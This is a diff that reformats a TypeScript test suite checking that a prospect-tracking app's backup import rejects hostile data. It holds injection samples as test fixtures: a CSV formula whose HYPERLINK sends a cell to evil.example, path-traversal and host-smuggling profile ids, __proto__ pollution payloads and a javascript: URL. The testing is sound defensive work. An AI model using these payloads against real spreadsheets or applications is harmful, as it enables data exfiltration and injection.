@@ -32,15 +32,54 @@ const backupOf = (stores: Partial<Record<(typeof STORE_NAMES)[number], unknown[]
 
 const FORMULA_SEPARATOR = ',=HYPERLINK("https://evil.example/?"&A1,"x"),';
 
-const prospect = (id: string) => ({ id, name: 'Eve', headline: '', company: '', persona: '', stage: 'awareness', tags: [], notes: '', nextFollowUp: null, createdAt: 1, lastContactAt: null, lastReplyAt: null });
-const interaction = (prospectId: string | null) => ({ id: 1, at: 1, kind: 'note', prospectId, contentId: null, channel: 'other', url: null, externalId: null, note: 'x' });
+const prospect = (id: string) => ({
+  id,
+  name: 'Eve',
+  headline: '',
+  company: '',
+  persona: '',
+  stage: 'awareness',
+  tags: [],
+  notes: '',
+  nextFollowUp: null,
+  createdAt: 1,
+  lastContactAt: null,
+  lastReplyAt: null,
+});
+const interaction = (prospectId: string | null) => ({
+  id: 1,
+  at: 1,
+  kind: 'note',
+  prospectId,
+  contentId: null,
+  channel: 'other',
+  url: null,
+  externalId: null,
+  note: 'x',
+});
 
 describe('restoring settings', () => {
   for (const mode of ['merge', 'replace'] as const) {
     it(`checks each setting on its own; a bad value keeps the current one (${mode})`, async () => {
       const { db, backup } = await setup();
-      const value = { repId: 'bob', csvSeparator: FORMULA_SEPARATOR, quietMode: 'no', feedSyncMinutes: 0, keepReplyText: true, evil: 'x', __proto__: { csvBom: false } };
-      const { settingsKept } = await backup.import(backupOf({ settings: [{ key: 'user', value }, { key: 'other', value: { a: 1 } }] }), mode);
+      const value = {
+        repId: 'bob',
+        csvSeparator: FORMULA_SEPARATOR,
+        quietMode: 'no',
+        feedSyncMinutes: 0,
+        keepReplyText: true,
+        evil: 'x',
+        __proto__: { csvBom: false },
+      };
+      const { settingsKept } = await backup.import(
+        backupOf({
+          settings: [
+            { key: 'user', value },
+            { key: 'other', value: { a: 1 } },
+          ],
+        }),
+        mode,
+      );
       const settings = await readSettings(await db());
       // The valid value is taken...
       expect(settings.repId).toBe('bob');
@@ -57,8 +96,16 @@ describe('restoring settings', () => {
   }
 
   it('never turns keepReplyText on, but may turn it off', () => {
-    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: false }, { keepReplyText: true })).toEqual({ settings: { ...DEFAULT_SETTINGS, keepReplyText: false }, kept: ['keepReplyText'], unknown: [] });
-    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: true }, { keepReplyText: false })).toEqual({ settings: { ...DEFAULT_SETTINGS, keepReplyText: false }, kept: [], unknown: [] });
+    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: false }, { keepReplyText: true })).toEqual({
+      settings: { ...DEFAULT_SETTINGS, keepReplyText: false },
+      kept: ['keepReplyText'],
+      unknown: [],
+    });
+    expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: true }, { keepReplyText: false })).toEqual({
+      settings: { ...DEFAULT_SETTINGS, keepReplyText: false },
+      kept: [],
+      unknown: [],
+    });
     expect(restoredSettings({ ...DEFAULT_SETTINGS, keepReplyText: true }, { keepReplyText: true }).settings.keepReplyText).toBe(true);
   });
 
@@ -71,7 +118,14 @@ describe('restoring settings', () => {
   });
 
   it('only ever stores settings SettingsSchema accepts, whatever the file holds', () => {
-    const anyValue = fc.oneof(fc.string(), fc.integer(), fc.double(), fc.boolean(), fc.constant(null), fc.constantFrom(',', ';', '\t', 15, 10080, 360));
+    const anyValue = fc.oneof(
+      fc.string(),
+      fc.integer(),
+      fc.double(),
+      fc.boolean(),
+      fc.constant(null),
+      fc.constantFrom(',', ';', '\t', 15, 10080, 360),
+    );
     fc.assert(
       fc.property(fc.dictionary(fc.constantFrom(...Object.keys(DEFAULT_SETTINGS), 'evil'), anyValue), (value) => {
         const { settings } = restoredSettings(DEFAULT_SETTINGS, value);
@@ -86,13 +140,25 @@ describe('restoring settings', () => {
 });
 
 describe('prospect ids in a backup', () => {
-  const HOSTILE = ['@evil.example/x', '/in/a@evil.example', '/in/a\\..\\..\\evil', '/in/..', '/in/.', 'https://evil.example/in/x', '/in/a/b', '/in/a\u0000b', '//evil.example/in/x'];
+  const HOSTILE = [
+    '@evil.example/x',
+    '/in/a@evil.example',
+    '/in/a\\..\\..\\evil',
+    '/in/..',
+    '/in/.',
+    'https://evil.example/in/x',
+    '/in/a/b',
+    '/in/a\u0000b',
+    '//evil.example/in/x',
+  ];
 
   it('a backup whose prospect or interaction id is not a profile path restores nothing', async () => {
     for (const id of HOSTILE) {
       const { db, backup } = await setup();
       for (const stores of [{ prospects: [prospect(id)] }, { interactions: [interaction(id)] }]) {
-        await expect(backup.import(backupOf(stores), 'merge'), id).rejects.toThrow(/Nothing was restored: the backup is damaged.*profile path/);
+        await expect(backup.import(backupOf(stores), 'merge'), id).rejects.toThrow(
+          /Nothing was restored: the backup is damaged.*profile path/,
+        );
       }
       expect(await (await db()).count('prospects')).toBe(0);
       expect(await (await db()).count('interactions')).toBe(0);
@@ -101,7 +167,13 @@ describe('prospect ids in a backup', () => {
 
   it('ordinary ids still restore, accents included', async () => {
     const { db, backup } = await setup();
-    await backup.import(backupOf({ prospects: [prospect('/in/josé-garcía'), prospect('/in/ACoAAB1234567890')], interactions: [interaction('/in/josé-garcía')] }), 'merge');
+    await backup.import(
+      backupOf({
+        prospects: [prospect('/in/josé-garcía'), prospect('/in/ACoAAB1234567890')],
+        interactions: [interaction('/in/josé-garcía')],
+      }),
+      'merge',
+    );
     expect((await (await db()).getAllKeys('prospects')).sort()).toEqual(['/in/ACoAAB1234567890', '/in/josé-garcía']);
   });
 
@@ -113,7 +185,9 @@ describe('prospect ids in a backup', () => {
       await conn.add('interactions', { ...entry, at: index + 1 } as never);
     }
     const text = await csvFromRows(db, {}, { limit: 100 });
-    const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ';' }).data.slice(1).filter((row) => row.length > 1);
+    const rows = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ';' })
+      .data.slice(1)
+      .filter((row) => row.length > 1);
     expect(rows).toHaveLength(HOSTILE.length);
     for (const row of rows) {
       const cell = row[5] ?? '';
@@ -124,14 +198,21 @@ describe('prospect ids in a backup', () => {
 
   it('profileUrl only ever builds a www.linkedin.com/in/ address', () => {
     fc.assert(
-      fc.property(fc.oneof(fc.string(), fc.string().map((s) => `/in/${s}`), fc.constantFrom(...HOSTILE)), (id) => {
-        const url = profileUrl(id);
-        if (url === null) return;
-        const parsed = new URL(url);
-        expect(parsed.origin).toBe('https://www.linkedin.com');
-        expect(parsed.pathname).toMatch(/^\/in\/[^/]+\/$/);
-        expect(PROFILE_ID.test(id)).toBe(true);
-      }),
+      fc.property(
+        fc.oneof(
+          fc.string(),
+          fc.string().map((s) => `/in/${s}`),
+          fc.constantFrom(...HOSTILE),
+        ),
+        (id) => {
+          const url = profileUrl(id);
+          if (url === null) return;
+          const parsed = new URL(url);
+          expect(parsed.origin).toBe('https://www.linkedin.com');
+          expect(parsed.pathname).toMatch(/^\/in\/[^/]+\/$/);
+          expect(PROFILE_ID.test(id)).toBe(true);
+        },
+      ),
       { numRuns: 500 },
     );
     expect(profileUrl('/in/ada')).toBe('https://www.linkedin.com/in/ada/');
@@ -141,7 +222,21 @@ describe('prospect ids in a backup', () => {
 });
 
 describe('every field of a restored record is checked (issue 24)', () => {
-  const share = { id: 2, at: 5, kind: 'shared', prospectId: '/in/eve', contentId: 'item-1', channel: 'message', url: 'https://www.linkedin.com/messaging/thread/1/', externalId: null, note: '', status: 'sent', link: 'https://example.com/a', captionIndex: 0, audience: 'person' };
+  const share = {
+    id: 2,
+    at: 5,
+    kind: 'shared',
+    prospectId: '/in/eve',
+    contentId: 'item-1',
+    channel: 'message',
+    url: 'https://www.linkedin.com/messaging/thread/1/',
+    externalId: null,
+    note: '',
+    status: 'sent',
+    link: 'https://example.com/a',
+    captionIndex: 0,
+    audience: 'person',
+  };
 
   it.each([
     ['a share status', { interactions: [{ ...share, status: 'maybe' }] }, /status/],
@@ -149,15 +244,27 @@ describe('every field of a restored record is checked (issue 24)', () => {
     ['a caption index past the captions', { interactions: [{ ...share, captionIndex: 99 }] }, /captionIndex/],
     ['an audience', { interactions: [{ ...share, audience: 'everyone' }] }, /audience/],
     ['a page that is not LinkedIn', { interactions: [{ ...share, url: 'https://evil.example/' }] }, /url/],
-    ['a stage change to no stage', { interactions: [{ ...share, kind: 'stage', stageFrom: 'awareness', stageTo: 'constructor' }] }, /stageTo/],
+    [
+      'a stage change to no stage',
+      { interactions: [{ ...share, kind: 'stage', stageFrom: 'awareness', stageTo: 'constructor' }] },
+      /stageTo/,
+    ],
     ['a time no Date can hold', { interactions: [{ ...share, at: 1e300 }] }, /\bat\b/],
     ['a member id', { prospects: [{ ...prospect('/in/eve'), memberId: '__proto__' }] }, /memberId/],
     ['a Sales Navigator lead id', { prospects: [{ ...prospect('/in/eve'), salesLeadId: 'ACoAAB1234567890' }] }, /salesLeadId/],
     ['a persona longer than any request takes', { prospects: [{ ...prospect('/in/eve'), persona: 'x'.repeat(61) }] }, /persona/],
-    ['a tag list longer than any request takes', { prospects: [{ ...prospect('/in/eve'), tags: Array.from({ length: 21 }, (_, i) => `t${i}`) }] }, /tags/],
+    [
+      'a tag list longer than any request takes',
+      { prospects: [{ ...prospect('/in/eve'), tags: Array.from({ length: 21 }, (_, i) => `t${i}`) }] },
+      /tags/,
+    ],
     ['an item address that is not a web address', { content: [{ ...libraryItem(), url: 'javascript:alert(1)' }] }, /url/],
     ['an item language', { content: [{ ...libraryItem(), language: 'constructor' }] }, /language/],
-    ['a source sync result', { sources: [{ id: 's', kind: 'json', label: 'f.json', url: null, etag: null, lastModified: null, addedAt: 1, lastSync: { at: 1 } }] }, /lastSync/],
+    [
+      'a source sync result',
+      { sources: [{ id: 's', kind: 'json', label: 'f.json', url: null, etag: null, lastModified: null, addedAt: 1, lastSync: { at: 1 } }] },
+      /lastSync/,
+    ],
   ])('refuses the whole file for %s', async (_name, stores, field) => {
     const { db, backup } = await setup();
     await expect(backup.import(backupOf(stores), 'merge')).rejects.toThrow(field);
@@ -167,7 +274,8 @@ describe('every field of a restored record is checked (issue 24)', () => {
 
   it('leaves out the fields it does not know and names them, nested ones and the settings’ included', async () => {
     const { db, backup } = await setup();
-    const hostile = (record: object) => JSON.parse(JSON.stringify(record).replace(/^\{/, '{"__proto__":{"polluted":1},"constructor":"x","favourite":"blue",'));
+    const hostile = (record: object) =>
+      JSON.parse(JSON.stringify(record).replace(/^\{/, '{"__proto__":{"polluted":1},"constructor":"x","favourite":"blue",'));
     const stores = {
       content: [hostile({ ...libraryItem(), captions: [hostile({ language: 'en', text: 'Read this' })] })],
       prospects: [hostile(prospect('/in/eve'))],
@@ -177,7 +285,15 @@ describe('every field of a restored record is checked (issue 24)', () => {
     const { droppedFields, restored } = await backup.import(backupOf(stores), 'merge');
     expect(restored).toMatchObject({ content: 1, prospects: 1, interactions: 1, settings: 1 });
     expect(droppedFields).toEqual(
-      expect.arrayContaining(['content.__proto__', 'content.captions.favourite', 'content.constructor', 'interactions.favourite', 'prospects.__proto__', 'prospects.favourite', 'settings.favourite']),
+      expect.arrayContaining([
+        'content.__proto__',
+        'content.captions.favourite',
+        'content.constructor',
+        'interactions.favourite',
+        'prospects.__proto__',
+        'prospects.favourite',
+        'settings.favourite',
+      ]),
     );
     const conn = await db();
     for (const record of [await conn.get('prospects', '/in/eve'), await conn.get('interactions', 2), await conn.get('content', 'item-1')]) {
@@ -200,7 +316,14 @@ describe('every field of a restored record is checked (issue 24)', () => {
 
   it('restores what it wrote itself, nothing dropped', async () => {
     const { db, backup } = await setup();
-    await backup.import(backupOf({ content: [libraryItem()], prospects: [{ ...prospect('/in/eve'), memberId: 'ACoAAB1234567890', location: 'Lyon' }], interactions: [share] }), 'merge');
+    await backup.import(
+      backupOf({
+        content: [libraryItem()],
+        prospects: [{ ...prospect('/in/eve'), memberId: 'ACoAAB1234567890', location: 'Lyon' }],
+        interactions: [share],
+      }),
+      'merge',
+    );
     const { text } = await backup.export();
     const again = await backup.import(text, 'replace');
     expect(again.droppedFields).toEqual([]);
